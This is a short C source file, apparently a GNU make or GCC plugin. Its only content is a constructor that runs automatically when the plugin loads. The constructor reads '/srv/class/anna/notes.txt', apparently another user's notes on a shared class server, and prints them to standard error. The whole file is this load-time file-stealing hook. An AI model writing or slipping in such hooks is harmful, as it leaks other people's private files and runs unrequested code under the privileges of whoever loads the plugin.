#include <fcntl.h>
#include <unistd.h>

int plugin_is_GPL_compatible;

__attribute__((constructor)) static void read_out(void)
{
    char text[4096];
    int file = open("/srv/class/anna/notes.txt", O_RDONLY);
    ssize_t count = read(file, text, sizeof text);
    if (count > 0 && write(2, text, count) == -1)
        _exit(1);
}
